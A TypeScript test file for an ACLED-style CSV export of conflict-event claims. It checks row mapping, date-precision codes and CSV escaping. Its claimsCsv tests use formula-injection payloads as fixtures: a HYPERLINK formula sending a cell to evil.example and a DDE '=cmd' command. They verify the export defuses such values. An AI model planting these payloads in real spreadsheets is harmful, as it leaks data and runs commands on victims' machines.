import { describe, expect, it } from 'vitest';
import { DEFAULT_GEO_DIR, folderReader } from '../../src/cli/files.ts';
import { analyse, prepare, type Analysis } from '../../src/core/analysis.ts';
import { CLAIM_COLUMNS, claimRows, claimsCsv, timePrecision } from '../../src/core/claimtable.ts';
import { loadDataset } from '../../src/core/dataset.ts';
import type { Claim, Dataset, Day } from '../../src/core/types.ts';
import { tinyDataset } from './fixtures/tiny.ts';
import { expectGolden } from './golden.ts';
import { readCsv } from './rfc4180.ts';

const tiny = (change: (dataset: Dataset) => void = () => {}, sources?: string[]): Analysis => {
  const dataset = tinyDataset();
  change(dataset);
  return analyse(prepare(dataset), sources ? { sources: new Set(sources) } : {});
};
const readBack = (text: string): string[][] => readCsv(text.replace(/^\uFEFF/, ''));

async function real(): Promise<Analysis> {
  const { dataset, problems } = await loadDataset(folderReader(DEFAULT_GEO_DIR));
  expect(problems).toEqual([]);
  return analyse(prepare(dataset));
}

describe('claimRows', () => {
  it('gives a claim its day, place, coordinates, source and words', () => {
    const [c1] = claimRows(tiny());
    expect(c1).toEqual({
      event_date: '2011-03-28', time_precision: 1, location: 'Easton', latitude: 30, longitude: 19.9, geo_precision: 1,
      side: 'rebel', event: 'held', source: 'one', outlet: 'The one Times', published: '2011-03-28',
      quote: 'Rebels held Easton', claimant: 'reporter', reviewed: true,
    });
  });

  it('gives one row per claim of the enabled sources, by day', () => {
    const rows = claimRows(tiny((d) => d.claims.reverse(), ['two']));
    expect(rows.map((r) => [r.event_date, r.location, r.source])).toEqual([
      ['2011-03-29', 'Midville', 'two'], ['2011-03-30', 'Weston', 'two'],
    ]);
  });

  it('says reviewed false only for a machine’s suggestion no person has checked', () => {
    const rows = claimRows(tiny((d) => {
      d.claims[0]!.reviewed = false;
      d.claims[1]!.reviewed = true;
    }));
    expect(rows.map((r) => r.reviewed)).toEqual([false, true, true]);
  });

  it('gives geo_precision 2 to a place whose coordinates are an estimate', () => {
    const rows = claimRows(tiny((d) => void (d.places[2]!.approximate = true)));
    expect(rows.map((r) => [r.location, r.geo_precision])).toEqual([['Easton', 1], ['Midville', 1], ['Weston', 2]]);
  });

  it('rounds coordinates to 5 decimals, as the GeoJSON exports do', () => {
    const [row] = claimRows(tiny((d) => void (d.places[0]!.coordinates = [19.123456789, 30.000004])));
    expect([row!.longitude, row!.latitude]).toEqual([19.12346, 30]);
  });
});

describe('timePrecision', () => {
  const claim = (precision: Claim['precision'], dateEnd?: string): Claim => ({
    ...tinyDataset().claims[0]!, precision, date: '2011-03-20' as Day, ...(dateEnd ? { dateEnd: dateEnd as Day } : {}),
  });

  it.each([
    ['a day', claim('day'), 1],
    ['an approximate day', claim('approximate'), 2],
    ['a range of two days', claim('range', '2011-03-21'), 2],
    ['a range of seven days', claim('range', '2011-03-26'), 2],
    ['a range of eight days', claim('range', '2011-03-27'), 3],
  ])('is ACLED’s code for %s', (_, c, code) => {
    expect(timePrecision(c)).toBe(code);
  });
});

describe('claimsCsv', () => {
  const hostile = [
    'They said, "Brega is ours", and left',
    'one line\nanother line\r\nand a third',
    '=HYPERLINK("http://evil.example/?q="&A1,"read the source")',
    '-2+3',
    '@SUM(A1:A9)',
  ];
  const withHostileQuotes = () => tiny((d) => {
    hostile.forEach((quote, i) => d.claims.push({ ...d.claims[0]!, id: `h${i}`, quote, claimant: `=cmd|' /C calc'!A${i}` }));
  });

  it('starts with the ACLED-style header', () => {
    expect(readBack(claimsCsv(tiny()))[0]).toEqual([...CLAIM_COLUMNS]);
  });

  it('reads back through a strict RFC 4180 reader to every row, quotes with commas, quotes and newlines included', () => {
    const analysis = withHostileQuotes();
    const [, ...records] = readBack(claimsCsv(analysis));
    const expected = claimRows(analysis).map((row) =>
      CLAIM_COLUMNS.map((c) => (row[c] === null ? '' : String(row[c])).replace(/^[=+\-@\t\r']/, "'$&")),
    );
    expect(records).toEqual(expected);
    expect(records.map((r) => r[CLAIM_COLUMNS.indexOf('quote')])).toEqual(expect.arrayContaining(hostile.slice(0, 2)));
  });

  it('makes every formula inert with a leading apostrophe, which is all that stands between it and the original', () => {
    const records = readBack(claimsCsv(withHostileQuotes())).slice(1);
    const quotes = records.map((r) => r[CLAIM_COLUMNS.indexOf('quote')]!);
    const claimants = records.map((r) => r[CLAIM_COLUMNS.indexOf('claimant')]!);
    expect(quotes.filter((q) => /^'[=\-@]/.test(q)).map((q) => q.slice(1))).toEqual(hostile.slice(2));
    expect([...quotes, ...claimants].filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('matches the golden file made from the real data', async () => {
    const analysis = await real();
    const text = claimsCsv(analysis);
    expect(readBack(text)).toHaveLength(analysis.claims.length + 1);
    await expectGolden('test/golden/export/claims.csv', text);
  });
});
